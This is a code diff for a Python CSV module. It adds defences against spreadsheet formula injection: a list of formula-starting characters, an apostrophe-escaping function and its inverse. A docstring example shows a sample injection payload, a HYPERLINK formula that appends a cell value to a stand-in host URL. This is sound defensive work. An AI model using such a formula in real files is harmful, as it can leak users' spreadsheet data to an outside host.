@@ -168,6 +168,48 @@ def parse_int(text: str) -> int:
     return int(value)
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""First characters that make a spreadsheet read a cell as a formula (OWASP CSV injection)."""
+
+
+def _formula_like(text: str) -> bool:
+    return text.lstrip("'").startswith(FORMULA_STARTS)
+
+
+def neutralise_formula(text: str) -> str:
+    """Make a text cell that a spreadsheet would run as a formula plain text again.
+
+    A leading apostrophe is what Excel and LibreOffice read as "this is text"; a text that
+    already starts with apostrophes before such a character gets one more, so that
+    :func:`restore_formula` gives back exactly the original.
+
+    Examples
+    --------
+    >>> print(neutralise_formula('=HYPERLINK("http://x.example?"&A1,"clic")'))
+    '=HYPERLINK("http://x.example?"&A1,"clic")
+    >>> neutralise_formula("Béthune"), neutralise_formula("-12,5")
+    ('Béthune', "'-12,5")
+    >>> restore_formula(neutralise_formula("'=x")) == "'=x"
+    True
+
+    References
+    ----------
+    .. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
+    """
+    return "'" + text if _formula_like(text) else text
+
+
+def restore_formula(text: str) -> str:
+    """Undo :func:`neutralise_formula` (a CSV written by toiles reads back the same).
+
+    Examples
+    --------
+    >>> restore_formula("'=1+1"), restore_formula("'Béthune")
+    ('=1+1', "'Béthune")
+    """
+    return text[1:] if text.startswith("'") and _formula_like(text[1:]) else text
+
+
 def _clean(cell: object) -> str | None:
     if cell is None:
         return None
@@ -233,7 +275,7 @@ def read_csv_text(text: str, path: str, aliases: Mapping[str, str]) -> Table:
             if mapped is None:
                 mapped = _map_header(table, list(cells), aliases)
                 continue
-            _add_row(table, mapped, start, list(cells))
+            _add_row(table, mapped, start, [restore_formula(c) for c in cells])
     except csv.Error as exc:
         table.error(
             last_line + 1,
